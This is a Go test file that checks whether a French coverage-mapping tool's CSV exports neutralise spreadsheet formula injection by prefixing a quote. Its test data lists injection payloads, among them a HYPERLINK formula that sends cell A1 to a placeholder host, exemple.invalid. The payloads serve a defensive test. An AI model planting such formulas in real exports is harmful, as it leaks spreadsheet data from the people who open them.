package coverage_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/maillage/maillage/coverage"
	"github.com/maillage/maillage/graph"
	"github.com/maillage/maillage/graph/teststore"
)

// formulas are what a partner could type into a name to run in the coordinator's spreadsheet.
var formulas = []string{`=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")`, "+33 1 23", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}

// noFormula fails when a cell of an export would be read as a formula, or when none holds the
// formula f (written as text).
func noFormula(t *testing.T, what, f string, b []byte) {
	t.Helper()
	found := 0
	for _, rec := range readCSV(t, b) {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: a cell is a formula: %q", what, cell)
			}
			if strings.Contains(cell, strings.TrimLeft(f, "\t\r")) {
				found++
			}
		}
	}
	if found == 0 {
		t.Errorf("%s: %q is not written at all", what, f)
	}
}

// TestExportsNeutraliseFormulas: every text cell of the three exports, whatever field it comes
// from, is written so that no spreadsheet runs it (OWASP: a leading quote).
func TestExportsNeutraliseFormulas(t *testing.T) {
	for i, f := range formulas {
		tr := coverage.TerritoryRef{ID: "dep-52", Code: f, Name: f, Level: graph.LevelDepartement}
		v := coverage.Value{Dimension: coverage.DimPublic, Value: f, Label: f}
		d := coverage.DispositifRef{ID: f, Name: f, Type: f, Status: f}
		a := coverage.ActorRef{ID: f, Name: f}
		m := &coverage.Matrix{Territory: tr, Dimensions: []coverage.Dimension{coverage.DimPublic}, RowLevel: graph.LevelCommune,
			Columns: []coverage.Column{{Key: f, Label: f, Values: []coverage.Value{v}}},
			Rows:    []coverage.Row{{Territory: tr, Cells: []coverage.Cell{{}}}}, Totals: []coverage.Cell{{}}}
		var buf bytes.Buffer
		if err := coverage.WriteCoverageCSV(&buf, m); err != nil {
			t.Fatal(err)
		}
		noFormula(t, "coverage", f, buf.Bytes())
		g := &coverage.GapsReport{Territory: tr, Gaps: []coverage.Gap{{Rank: 1, Priority: f, Value: v, Territories: []coverage.TerritoryRef{tr}, Reason: f}}}
		buf.Reset()
		if err := coverage.WriteGapsCSV(&buf, g); err != nil {
			t.Fatal(err)
		}
		noFormula(t, "gaps", f, buf.Bytes())
		r := &coverage.DiagnosticsReport{Territory: tr, Summary: []string{f},
			NoOperator: []coverage.Issue{{Dispositif: d, Reason: f}}, Isolated: []coverage.Issue{{Dispositif: d, Reason: f}},
			DeadEnds:       []coverage.DeadEnd{{Dispositif: d, Referrers: []coverage.ActorRef{a}, Reason: f}},
			SingleOperator: []coverage.SinglePoint{{Value: v, Organisation: a, Dispositifs: []coverage.DispositifRef{d}, Reason: f}},
			SingleReferrer: []coverage.SingleGateway{{Dispositif: d, Referrer: a, Reason: f}},
			NoServiceArea:  []coverage.Issue{{Dispositif: d, Reason: f}},
			Stale:          coverage.Staleness{Listings: []coverage.StaleListing{{Dispositif: d, Reference: time.Date(2025, 1, i+1, 0, 0, 0, 0, time.UTC), Reason: f}}}}
		buf.Reset()
		if err := coverage.WriteDiagnosticsCSV(&buf, r); err != nil {
			t.Fatal(err)
		}
		noFormula(t, "diagnostics", f, buf.Bytes())
	}
}

// TestPartnerNamesAreTextInTheDiagnostics: a listing named as a formula by its partner comes out
// as text in its territory's diagnostics, with its name otherwise intact.
func TestPartnerNamesAreTextInTheDiagnostics(t *testing.T) {
	st := teststore.Open(t)
	for _, n := range []graph.Node{
		&graph.Territory{Meta: graph.Meta{ID: "dep-52"}, Level: graph.LevelDepartement, Code: "52", Name: "Haute-Marne"},
		&graph.Dispositif{Meta: graph.Meta{ID: "dsp-piege"}, Name: formulas[0], Status: "active"},
	} {
		if _, err := st.Create(ctx, n); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := st.Link(ctx, graph.Edge{Type: graph.Covers, From: "dsp-piege", To: "dep-52"}); err != nil {
		t.Fatal(err)
	}
	r, err := coverage.Diagnostics(ctx, st, "dep-52", coverage.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := coverage.WriteDiagnosticsCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	noFormula(t, "diagnostics", formulas[0], buf.Bytes())
	if !strings.Contains(buf.String(), `'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")`) {
		t.Errorf("the name is not kept as text: %s", buf.String())
	}
}
